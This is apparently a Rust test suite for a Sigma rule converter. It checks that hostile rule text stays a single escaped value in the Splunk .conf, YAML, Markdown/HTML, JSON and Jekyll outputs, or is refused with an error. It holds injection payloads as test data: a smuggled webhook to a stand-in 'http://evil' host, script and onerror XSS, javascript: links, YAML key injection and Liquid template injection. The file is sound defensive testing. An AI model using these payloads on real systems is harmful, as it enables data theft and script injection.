//! Hostile rule text in the output formats: every text from a rule stays one value of the channel
//! it lands in (`.conf`, YAML, Markdown/HTML, JSON), or the rule fails with a located error.
//!
//! Property tests render a format in-process for rules with arbitrary Unicode texts and read it
//! back with a parser of that format: the `.conf` reader below, yaml_serde and the compiler's
//! YAML loader, pulldown-cmark then html5gum, serde_json. The hostile cases run the binary.

use crate::common;
use proptest::prelude::*;
use proptest::test_runner::{Config, TestCaseError, TestRng, TestRunner};
use sigc_backends::Converted;
use sigc_backends::format::{Layout, md};
use std::collections::BTreeSet;
use std::process::Output;

// ---------------------------------------------------------------------------------------------
// Inputs

/// Characters that mean something to one output channel or another.
const SPECIAL: &[char] = &[
    '\r', '\n', '\u{85}', '\u{2028}', '\u{2029}', '[', ']', '\\', '<', '>', '&', '`', '#', ':',
    '"', '\'', '|', '*', '_', '{', '}', '-', '=', '!', '(', ')', ' ', '\t', '\0', '\u{7f}',
    '\u{9b}', '\u{feff}', '\u{fffe}', '1', '.', ';', '$', '~',
];

/// Pieces of markup of the output channels.
const MARKUP: &[&str] = &[
    "<b>",
    "</b>",
    "<img src=x onerror=y>",
    "<!--",
    "-->",
    "&lt;",
    "&#60;",
    "[x](javascript:y)",
    "[r]: javascript:y",
    "```",
    "~~~",
    "    ",
    "---",
    "\\\n",
    "  \n",
    "\n\n",
    "{: .x}",
    "[default]",
    "\nsearch = x",
    "\r\nk: v",
    ": ",
    " #",
    "- ",
    "? ",
    "|-",
    "*a*",
    "_a_",
    "https://e.org/",
];

/// Text made of [`SPECIAL`] characters, [`MARKUP`], some letters and any character.
fn hostile() -> impl Strategy<Value = String> {
    let special = prop::sample::select(SPECIAL).prop_map(String::from);
    let markup = prop::sample::select(MARKUP).prop_map(String::from);
    let letters = prop::char::range('a', 'e').prop_map(String::from);
    let any = any::<char>().prop_map(String::from);
    prop::collection::vec(
        prop_oneof![4 => special, 1 => markup, 2 => letters, 1 => any],
        0..24,
    )
    .prop_map(|pieces| pieces.concat())
}

/// Mostly text a `.conf` can carry (no control character), else [`hostile`] text: so that both
/// the values read back and the refusals are exercised.
fn conf_text() -> impl Strategy<Value = String> {
    let tame = hostile().prop_map(|t| {
        t.replace(
            |c: char| c.is_control() || "\u{2028}\u{2029}".contains(c),
            "x",
        )
    });
    prop_oneof![4 => tame, 1 => hostile()]
}

/// `text` as a YAML double-quoted scalar with every character outside printable ASCII escaped.
fn quote(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => {
                out.push('\\');
                out.push(c);
            }
            ' '..='~' => out.push(c),
            c if u32::from(c) <= 0xffff => out.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => out.push_str(&format!("\\U{:08x}", u32::from(c))),
        }
    }
    out.push('"');
    out
}

/// The rule of a YAML text converted for `target` (the backend's own default pipeline), or
/// `None` when the compiler or the backend refuses it (other slices test those errors).
fn convert(target: &str, yaml: &str) -> Option<Converted> {
    let source = sigc_compiler::Source::new("hostile.yml", yaml);
    let rule = sigc_compiler::compile_rules(&source, "this test")
        .pop()?
        .ok()?;
    let queries = sigc_backends::target(target)?.queries(&rule).ok()?;
    let rule = std::sync::Arc::new(rule);
    Some(Converted::rule(
        rule.clone(),
        rule,
        queries,
        Default::default(),
    ))
}

/// `Ok(text)` of a built-in format for one rule, or its located error's message.
fn render(target: &str, name: &str, c: Converted) -> Result<String, String> {
    let t = sigc_backends::target(target).expect("a target");
    let f = t.format(name).expect("a built-in format");
    let options = sigc_backends::Options::defaults(t.options());
    let layout = Layout::Builtin(f);
    let compiled = layout.compile().expect("a built-in template compiles");
    if let Err(d) = f.check(Ok(&compiled), target, &options, &c) {
        assert!(d.source.is_some() && d.span.is_some(), "not located: {d}");
        return Err(d.message);
    }
    layout
        .render(&compiled, target, &options, &[c])
        .map_err(|e| panic!("{e}"))
}

// ---------------------------------------------------------------------------------------------
// Readers

/// A `.conf` file as Splunk reads it (AppInspect's parser is the model), leniently: lines split
/// at every character some reader takes for a line break; a line ending with `\` (blanks after
/// it allowed) continued on the next, the backslash read as a line feed; then `#`/`;` comments,
/// `[name]` headers (name from the first `[` to the last `]`) and `key = value`, both trimmed.
#[derive(Debug, Default)]
struct Conf {
    stanzas: Vec<(String, Vec<(String, String)>)>,
    /// Comments, settings before any stanza, and lines that are none of the above.
    other: Vec<String>,
}

fn read_conf(text: &str) -> Conf {
    let breaks = [
        '\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}',
        '\u{2029}',
    ];
    let mut conf = Conf::default();
    let mut joined = String::new();
    for line in text.split(breaks) {
        if let Some(head) = line.trim_end().strip_suffix('\\') {
            joined.push_str(head);
            joined.push('\n');
            continue;
        }
        joined.push_str(line);
        let item = std::mem::take(&mut joined);
        let start = item.trim_start();
        if start.is_empty() {
            continue;
        }
        match (start.chars().next(), item.find('['), item.rfind(']')) {
            (Some('#' | ';'), _, _) => conf.other.push(item),
            (Some('['), Some(open), Some(close)) if open < close => conf
                .stanzas
                .push((item[open + 1..close].to_string(), Vec::new())),
            _ => match (item.split_once('='), conf.stanzas.last_mut()) {
                (Some((k, v)), Some((_, keys))) => {
                    keys.push((k.trim().to_string(), v.trim().to_string()))
                }
                _ => conf.other.push(item),
            },
        }
    }
    conf
}

/// The top-level keys of a YAML mapping, read by yaml_serde.
fn yaml_keys(value: &serde_yaml::Value) -> Vec<String> {
    value
        .as_mapping()
        .expect("a mapping")
        .keys()
        .map(|k| k.as_str().expect("string keys").to_string())
        .collect()
}

/// The start tags, `href`s and text of Markdown rendered to HTML (pulldown-cmark with every
/// extension but typographic quotes), read by html5gum.
#[derive(Debug, Default, PartialEq)]
struct Html {
    tags: BTreeSet<String>,
    hrefs: Vec<String>,
    text: String,
}

fn read_markdown(markdown: &str) -> Html {
    use pulldown_cmark::{Options, Parser, html};
    let mut rendered = String::new();
    html::push_html(
        &mut rendered,
        Parser::new_ext(markdown, Options::all() - Options::ENABLE_SMART_PUNCTUATION),
    );
    let mut out = Html::default();
    for token in html5gum::Tokenizer::new(rendered.as_str()) {
        let Ok(token) = token;
        match token {
            html5gum::Token::StartTag(tag) => {
                if let Some((_, href)) =
                    tag.attributes.iter().find(|(k, _)| k.as_slice() == b"href")
                {
                    out.hrefs.push(String::from_utf8_lossy(href).into_owned());
                }
                out.tags
                    .insert(String::from_utf8_lossy(&tag.name).into_owned());
            }
            html5gum::Token::String(s) => out.text.push_str(&String::from_utf8_lossy(&s)),
            _ => {}
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Properties, one per channel

/// Cases per property.
const CASES: u32 = 256;

/// What became of one case.
enum Case {
    /// The output was read back and checked.
    Read,
    /// The format refused the rule with a located error.
    Refused,
    /// The compiler or the backend refused the rule (other slices test that).
    NotARule,
}

/// Runs `property` on [`CASES`] inputs; fails on its first failure (shrunk), or when fewer than
/// an eighth of the inputs were read back (the property would hardly test anything). The inputs
/// are the same on every run (a fixed seed), so the count cannot make CI flaky; the long random
/// searches are the fuzz targets'.
fn property<S: Strategy>(strategy: S, property: impl Fn(S::Value) -> Result<Case, TestCaseError>) {
    let counts = std::cell::Cell::new([0; 3]);
    let config = Config {
        cases: CASES,
        failure_persistence: None,
        ..Config::default()
    };
    let rng = TestRng::deterministic_rng(config.rng_algorithm);
    let mut runner = TestRunner::new_with_rng(config, rng);
    let result = runner.run(&strategy, |input| {
        let mut c = counts.get();
        c[property(input)? as usize] += 1;
        counts.set(c);
        Ok(())
    });
    if let Err(e) = result {
        panic!("{e}");
    }
    let [read, refused, other] = counts.get();
    // The backends refuse many hostile field names before a format sees them.
    assert!(
        read * 8 >= CASES as usize,
        "{read} read back, {refused} refused, {other} not rules"
    );
}

/// savedsearches: the stanzas and keys of a benign rule, each text one value equal to the input
/// (trimmed, a blank before each line break), or a located error.
#[test]
fn conf_keeps_every_text_one_value() {
    let texts = (
        conf_text(),
        conf_text(),
        conf_text(),
        conf_text(),
        conf_text(),
    );
    property(texts, |(title, description, field, value, column)| {
        let yaml = format!(
            "title: {}\ndescription: {}\nlogsource:\n    product: windows\ndetection:\n    sel:\n        {}: {}\n    condition: sel\nfields:\n    - {}\n",
            quote(&title),
            quote(&description),
            quote(&field),
            quote(&value),
            quote(&column),
        );
        let Some(c) = convert("splunk", &yaml) else {
            return Ok(Case::NotARule);
        };
        let query = c.queries[0].clone();
        let Ok(text) = render("splunk", "savedsearches", c) else {
            return Ok(Case::Refused);
        };
        let conf = read_conf(&text);
        prop_assert!(conf.other.is_empty(), "{text}");
        let names: Vec<&str> = conf.stanzas.iter().map(|(n, _)| n.as_str()).collect();
        let name = title.replace(['[', ']'], "");
        prop_assert_eq!(names, ["default", name.as_str()], "{}", text);
        let search = match &query.table {
            Some(table) => format!("{}\n| table {table}", query.search()),
            None => query.search(),
        };
        let as_written = |t: &str| t.trim().replace('\n', " \n");
        prop_assert_eq!(
            &conf.stanzas[1].1,
            &vec![
                ("description".to_string(), as_written(&description)),
                ("search".to_string(), as_written(&search)),
            ]
        );
        Ok(Case::Read)
    });
}

/// A CAR rule with these texts and a `CommandLine` value.
fn car_rule(title: &str, description: &str, author: &str, reference: &str, value: &str) -> String {
    format!(
        "title: {}\ndescription: {}\nauthor: {}\nreferences:\n    - {}\ntags:\n    - attack.t1070.005\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    sel:\n        CommandLine: {}\n    condition: sel\n",
        quote(title),
        quote(description),
        quote(author),
        quote(reference),
        quote(value),
    )
}

/// A built-in CAR format for a benign rule.
fn benign_car(format: &str) -> String {
    let rule = car_rule("t", "d", "a", "https://e.org/", "v");
    render("car", format, convert("car", &rule).expect("a rule")).expect("rendered")
}

/// car-analytic: the top-level keys of a benign rule (read by yaml_serde and by the compiler's
/// YAML 1.2 loader), each text one scalar equal to the input.
#[test]
fn yaml_keeps_every_text_one_scalar() {
    let expected: serde_yaml::Value = serde_yaml::from_str(&benign_car("car-analytic")).unwrap();
    let texts = (hostile(), hostile(), hostile(), hostile(), hostile());
    property(texts, |(title, description, author, reference, value)| {
        let rule = car_rule(&title, &description, &author, &reference, &value);
        let Some(c) = convert("car", &rule) else {
            return Ok(Case::NotARule);
        };
        let pseudocode = c.queries[0].to_string().trim().to_string();
        let text = render("car", "car-analytic", c).expect("YAML carries any text");
        let doc: serde_yaml::Value =
            serde_yaml::from_str(&text).map_err(|e| TestCaseError::fail(format!("{e}\n{text}")))?;
        prop_assert_eq!(yaml_keys(&doc), yaml_keys(&expected), "{}", text);
        let scalar = |v: &serde_yaml::Value| v.as_str().expect("a string").to_string();
        // A text that may be a literal block is trimmed; a block is read with a final line feed.
        let block = |v: &serde_yaml::Value| {
            let s = scalar(v);
            s.strip_suffix('\n').map_or(s.clone(), str::to_string)
        };
        prop_assert_eq!(scalar(&doc["title"]), title.clone());
        prop_assert_eq!(scalar(&doc["id"]), title.clone());
        prop_assert_eq!(block(&doc["description"]), description.trim());
        prop_assert_eq!(scalar(&doc["contributors"][0]), author);
        prop_assert_eq!(scalar(&doc["references"][0]), reference);
        prop_assert_eq!(block(&doc["implementations"][0]["code"]), pseudocode);
        for i in doc["implementations"].as_sequence().unwrap() {
            prop_assert!(i["code"].is_string() && i["name"].is_string());
        }
        let source = sigc_compiler::Source::new("analytic.yml", text.clone());
        let docs = sigc_compiler::yaml::load(&source)
            .map_err(|e| TestCaseError::fail(format!("{e}\n{text}")))?;
        let root = docs[0].root();
        let keys: Vec<String> = root
            .entries()
            .unwrap()
            .into_iter()
            .map(|(k, _, _)| k.into_owned())
            .collect();
        prop_assert_eq!(keys, yaml_keys(&expected));
        prop_assert_eq!(
            root.get("title").and_then(|n| n.as_str()),
            Some(title.as_str())
        );
        Ok(Case::Read)
    });
}

/// `md`: paragraph text only, reading as the input (lines trimmed of blanks and of the vertical
/// tab and form feed that pulldown-cmark takes for blanks, blank lines dropped, NUL as U+FFFD, as
/// CommonMark reads any text).
#[test]
fn markdown_text_is_only_text() {
    let lines = |t: &str| -> Vec<String> {
        t.replace("\r\n", "\n")
            .replace('\r', "\n")
            .replace('\0', "\u{fffd}")
            .split('\n')
            .map(|l| l.trim_matches([' ', '\t', '\u{b}', '\u{c}']).to_string())
            .filter(|l| !l.is_empty())
            .collect()
    };
    property(hostile(), |text| {
        let html = read_markdown(&format!("x\n\n{}", md::text(&text)));
        prop_assert!(html.tags.iter().all(|t| t == "p"), "{:?}", html);
        prop_assert_eq!(lines(&html.text), lines(&format!("x\n{text}")));
        Ok(Case::Read)
    });
}

/// car-page: the tags of a benign rule's page, links only to http(s) references and the fixed
/// ATT&CK and data model pages, and the front matter's title one YAML scalar.
#[test]
fn markdown_page_has_no_markup_of_its_own() {
    let tags = read_markdown(&benign_car("car-page")).tags;
    property(
        (hostile(), hostile(), hostile()),
        |(title, description, reference)| {
            let rule = car_rule(&title, &description, "a", &reference, "x");
            let Some(c) = convert("car", &rule) else {
                return Ok(Case::NotARule);
            };
            let page = render("car", "car-page", c).expect("Markdown carries any text");
            let html = read_markdown(&page);
            prop_assert_eq!(&html.tags, &tags, "{}", page);
            let http = ["http://", "https://"].iter().any(|s| {
                reference
                    .get(..s.len())
                    .is_some_and(|p| p.eq_ignore_ascii_case(s))
            });
            for href in &html.hrefs {
                let fixed = ["https://attack.mitre.org/", "/data_model/"]
                    .iter()
                    .any(|p| href.starts_with(p));
                prop_assert!(
                    fixed || (http && href.starts_with(&reference[..4])),
                    "{href} in {page}"
                );
            }
            let front = page
                .split("\n---\n")
                .next()
                .unwrap()
                .trim_start_matches("---\n");
            let front: serde_yaml::Value = serde_yaml::from_str(front).unwrap();
            let expected = format!("{title}: {title}");
            prop_assert_eq!(front["title"].as_str(), Some(expected.as_str()));
            Ok(Case::Read)
        },
    );
}

/// json: one object per rule with the documented keys, each text equal to the input.
#[test]
fn json_keeps_every_text_one_string() {
    property((hostile(), hostile(), hostile()), |(title, tag, value)| {
        let yaml = format!(
            "title: {}\ntags:\n    - {}\nlogsource:\n    product: windows\ndetection:\n    sel:\n        f: {}\n    condition: sel\n",
            quote(&title),
            quote(&format!("ns.{tag}")),
            quote(&value),
        );
        let Some(c) = convert("splunk", &yaml) else {
            return Ok(Case::NotARule);
        };
        let queries: Vec<String> = c.queries.iter().map(ToString::to_string).collect();
        let text = render("splunk", "json", c).expect("JSON carries any text");
        let doc: serde_json::Value = serde_json::from_str(&text).unwrap();
        let rule = &doc.as_array().unwrap()[0];
        let keys: Vec<&String> = rule.as_object().unwrap().keys().collect();
        prop_assert_eq!(
            keys,
            ["id", "level", "path", "queries", "status", "tags", "title"]
        );
        prop_assert_eq!(&rule["title"], &serde_json::json!(title));
        prop_assert_eq!(&rule["tags"], &serde_json::json!([format!("ns.{tag}")]));
        prop_assert_eq!(&rule["queries"], &serde_json::json!(queries));
        Ok(Case::Read)
    });
}

// ---------------------------------------------------------------------------------------------
// Hostile cases, through the binary

/// `sigc ARGS` from the workspace root, killed and failed if it outlives the hang guard.
fn sigc(args: &[&str]) -> Output {
    common::run_guarded(args, common::HANG_GUARD)
}

const BENIGN: &str = "title: Benign\ndescription: fine\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    sel:\n        CommandLine: x\n    condition: sel\n";

/// Writes the rules into a temporary directory; returns it and the path of each.
fn rules(rules: &[(&str, &str)]) -> (tempfile::TempDir, Vec<String>) {
    let dir = tempfile::tempdir().expect("temp dir");
    let paths = rules
        .iter()
        .map(|(name, text)| {
            let path = dir.path().join(name);
            std::fs::write(&path, text).expect("write rule");
            path.to_str().expect("UTF-8").to_string()
        })
        .collect();
    (dir, paths)
}

fn run(target: &str, format: &str, paths: &[String]) -> (Option<i32>, String, String) {
    let mut args = vec!["convert", "-t", target, "--without-pipeline", "-f", format];
    args.extend(paths.iter().map(String::as_str));
    let o = sigc(&args);
    (o.status.code(), common::stdout(&o), common::stderr(&o))
}

/// Item 1: line breaks in a title, a description and a field name add no stanza or key.
#[test]
fn savedsearches_refuses_text_that_would_add_stanzas_or_keys() {
    let title = "title: \"T\\ndisabled = 1\\naction.webhook.param.url = http://evil\"\nlogsource:\n    product: windows\ndetection:\n    sel:\n        f: x\n    condition: sel\n";
    let field = "title: F\nlogsource:\n    product: windows\ndetection:\n    sel:\n        \"a\\r[Injected]\\rsearch = x\": x\n    condition: sel\n";
    let slash = "title: S\ndescription: 'ends C:\\Temp\\'\nlogsource:\n    product: windows\ndetection:\n    sel:\n        f: x\n    condition: sel\n";
    let (_dir, paths) = rules(&[
        ("a.yml", title),
        ("b.yml", BENIGN),
        ("c.yml", field),
        ("d.yml", slash),
    ]);
    let (code, out, err) = run("splunk", "savedsearches", &paths);
    assert_eq!(code, Some(1), "{err}");
    // Each refusal points at the attribute that holds the text.
    let conf = "error[unsupported_format]: format `savedsearches` cannot carry this rule";
    for (path, what) in [
        (
            &paths[0],
            format!("1:8: {conf}: a .conf stanza name cannot hold a line break (U+000A)"),
        ),
        // The backend refuses the field name first, at the key.
        (
            &paths[2],
            "6:38: error[unsupported_feature]: field name `a\\r[Injected]\\rsearch = x`"
                .to_string(),
        ),
        (
            &paths[3],
            format!("2:14: {conf}: a .conf value cannot end with `\\`"),
        ),
    ] {
        let located = format!("{path}:{what}");
        assert!(err.contains(&located), "{located}\nin\n{err}");
    }
    assert!(err.contains("1 of 4 rules converted; 3 failed"), "{err}");
    let conf = read_conf(&out);
    assert!(conf.other.is_empty(), "{out}");
    let names: Vec<&str> = conf.stanzas.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["default", "Benign"]);
    let keys: Vec<&str> = conf.stanzas[1].1.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(keys, ["description", "search"]);
}

/// Two rules with one title, and a rule with two conditions, keep a stanza each: a .conf with
/// two stanzas of one name is merged by Splunk, the last search silently winning.
#[test]
fn savedsearches_stanzas_never_share_a_name() {
    let twice = |title: &str, value: &str| {
        format!(
            "title: {title}\nlogsource:\n    product: windows\ndetection:\n    sel:\n        f: {value}\n    other:\n        g: {value}\n    condition:\n        - sel\n        - other\n"
        )
    };
    let (_dir, paths) = rules(&[
        ("a.yml", BENIGN),
        ("b.yml", BENIGN),
        ("c.yml", &twice("Two", "x")),
        ("d.yml", &twice("\"[Two]\"", "y")),
    ]);
    let (code, out, err) = run("splunk", "savedsearches", &paths);
    assert_eq!(code, Some(0), "{err}");
    let conf = read_conf(&out);
    assert!(conf.other.is_empty(), "{out}");
    let names: Vec<&str> = conf.stanzas.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "default",
            "Benign",
            "Benign (2)",
            "Two (condition 1)",
            "Two (condition 2)",
            "Two (condition 1) (2)",
            "Two (condition 2) (2)",
        ]
    );
}

/// Item 2: a value LogPoint refuses, holding `\r`, stays inside the comment that says so.
#[test]
fn car_analytic_comment_cannot_start_a_key() {
    let rule = "title: t\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    sel:\n        CommandLine: \"x\\\"'\\rinjected_key: pwned\\u2028other: 1\"\n    condition: sel\n";
    let (_dir, paths) = rules(&[("a.yml", rule), ("b.yml", BENIGN)]);
    let (code, out, err) = run("car", "car-analytic", &paths);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("# logpoint: not converted: \"value `x\\\"'\\rinjected_key: pwned\\u2028other: 1` holds both"), "{out}");
    let docs: Vec<serde_yaml::Value> = out
        .split("\n---\n")
        .map(|d| serde_yaml::from_str(d).expect("YAML"))
        .collect();
    assert_eq!(docs.len(), 2);
    for doc in &docs {
        let keys = yaml_keys(doc);
        assert!(
            !keys.iter().any(|k| k.contains("injected") || k == "other"),
            "{keys:?}"
        );
    }
    assert_eq!(docs[1]["title"].as_str(), Some("Benign"));
}

/// Item 3: HTML and `javascript:` links from the title, description and references stay text.
#[test]
fn car_page_shows_html_and_script_links_as_text() {
    let rule = "title: \"<script>alert(1)</script>\"\ndescription: \"<img src=x onerror=alert(1)> [click](javascript:alert(1))\\n# heading\"\nreferences:\n    - \"javascript:alert(1)\"\n    - \"<a href=javascript:alert(1)>x</a>\"\n    - \"https://example.org/a(b)<c>\"\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    sel:\n        CommandLine: x\n    condition: sel\n";
    let (_dir, paths) = rules(&[("a.yml", rule)]);
    let (code, out, err) = run("car", "car-page", &paths);
    assert_eq!(code, Some(0), "{err}");
    let html = read_markdown(&out);
    for tag in ["script", "img", "h1"] {
        assert!(!html.tags.contains(tag), "{tag} in {out}");
    }
    assert!(
        html.hrefs.iter().all(|h| !h.contains("javascript")),
        "{:?}",
        html.hrefs
    );
    assert!(
        html.hrefs
            .contains(&"https://example.org/a%28b%29%3Cc%3E".to_string()),
        "{:?}",
        html.hrefs
    );
    assert!(
        html.text
            .contains("<img src=x onerror=alert(1)> [click](javascript:alert(1))"),
        "{}",
        html.text
    );
}

/// Jekyll, which renders car.mitre.org, runs Liquid before Markdown and its layout prints the
/// contributors as HTML: neither Liquid nor HTML from the rule survives, in the front matter, the
/// text or the code blocks.
#[test]
fn car_page_keeps_liquid_and_html_out_of_jekyll() {
    let rule = "title: \"T {{ site.github }}\"\nauthor: \"<img src=x onerror=alert(1)>\"\ndescription: \"{% include x %}\"\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    sel:\n        CommandLine|contains: \"{{ site | jsonify }}\"\n    condition: sel\n";
    let endraw = rule.replace("{{ site | jsonify }}", "{% endraw %}{{ site }}");
    let (_dir, paths) = rules(&[("a.yml", rule), ("b.yml", &endraw)]);
    let (code, out, err) = run("car", "car-page", &paths);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("b.yml:"), "{err}");
    assert!(err.contains("`endraw` cannot be kept from Jekyll"), "{err}");
    // In the page body (front matter values are data, never run as Liquid), outside
    // `{% raw %}` blocks, no Liquid delimiter is left.
    let body = out
        .split("\n---\n")
        .nth(1)
        .expect("front matter, then the body");
    let mut outside = String::new();
    for (i, part) in body.split("{% raw %}").enumerate() {
        let rest = if i == 0 {
            part
        } else {
            part.split_once("{% endraw %}").expect("raw block closed").1
        };
        outside.push_str(rest);
    }
    for delimiter in ["{{", "{%"] {
        assert!(!outside.contains(delimiter), "{delimiter} in {out}");
    }
    assert!(
        out.contains("contributors: \"&lt;img src=x onerror=alert(1)&gt;\""),
        "{out}"
    );
}

/// Item 4: the json format is serde_json's, whatever the rule's text.
#[test]
fn json_is_written_by_serde() {
    let rule = "title: \"a\\\"}, {\\\"id\\\": 1\\u2028\"\nlogsource:\n    product: windows\ndetection:\n    sel:\n        f: x\n    condition: sel\n";
    let (_dir, paths) = rules(&[("a.yml", rule), ("b.yml", BENIGN)]);
    let (code, out, err) = run("splunk", "json", &paths);
    assert_eq!(code, Some(0), "{err}");
    let doc: serde_json::Value = serde_json::from_str(&out).expect("JSON");
    assert_eq!(
        out,
        serde_json::to_string_pretty(&doc).unwrap() + "\n",
        "serde_json's layout"
    );
    assert_eq!(doc.as_array().map(Vec::len), Some(2));
    assert_eq!(doc[0]["title"], "a\"}, {\"id\": 1\u{2028}");
}

/// Item 5: a user's template is escaped by its extension, and its filters refuse what a .conf
/// cannot carry.
#[test]
fn user_templates_escape_by_extension_and_filter() {
    let rule = "title: \"<b>x</b>\\n# y: \\\"z\\\"\"\nlogsource:\n    product: windows\ndetection:\n    sel:\n        f: x\n    condition: sel\n";
    let (dir, paths) = rules(&[("a.yml", rule)]);
    let template = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, text).expect("write template");
        path.to_str().expect("UTF-8").to_string()
    };
    let each = "{% for r in rules %}{{ r.title }}\n{% endfor %}";
    let cases = [
        ("t.md.j2", "&lt;b&gt;x&lt;/b&gt;\n\\# y: \"z\"\n"),
        ("t.yaml.j2", "\"<b>x</b>\\n# y: \\\"z\\\"\"\n"),
        (
            "t.html.j2",
            "&lt;b&gt;x&lt;&#x2f;b&gt;\n# y: &quot;z&quot;\n",
        ),
        ("t.json.j2", "\"<b>x</b>\\n# y: \\\"z\\\"\"\n"),
    ];
    for (name, expected) in cases {
        let o = sigc(&[
            "convert",
            "-t",
            "splunk",
            "--template",
            &template(name, each),
            &paths[0],
        ]);
        assert_eq!(
            common::stdout(&o),
            expected,
            "{name}: {}",
            common::stderr(&o)
        );
    }
    let stanza = template(
        "t.j2",
        "{% for r in rules %}{{ r.title | conf_stanza }}\n{% endfor %}",
    );
    let o = sigc(&["convert", "-t", "splunk", "--template", &stanza, &paths[0]]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        common::stderr(&o).contains("a .conf stanza name cannot hold a line break (U+000A)"),
        "{}",
        common::stderr(&o)
    );
    let conf = template(
        "t.conf.j2",
        "{% for r in rules %}{{ r.title | replace('\\n', ' ') | conf_stanza }}\nx = {{ r.title }}\n{% endfor %}",
    );
    let o = sigc(&["convert", "-t", "splunk", "--template", &conf, &paths[0]]);
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    assert_eq!(
        common::stdout(&o),
        "[<b>x</b> # y: \"z\"]\nx = <b>x</b> \\\n# y: \"z\"\n"
    );
}

#[test]
fn the_docs_name_every_filter() {
    let docs = std::fs::read_to_string(common::root().join("docs/templates.md")).unwrap();
    for filter in [
        "tojson",
        "conf",
        "conf_search",
        "conf_stanza",
        "yaml",
        "md",
        "md_inline",
        "md_link",
        "md_code",
    ] {
        assert!(docs.contains(&format!("| `{filter}` |")), "{filter}");
    }
}
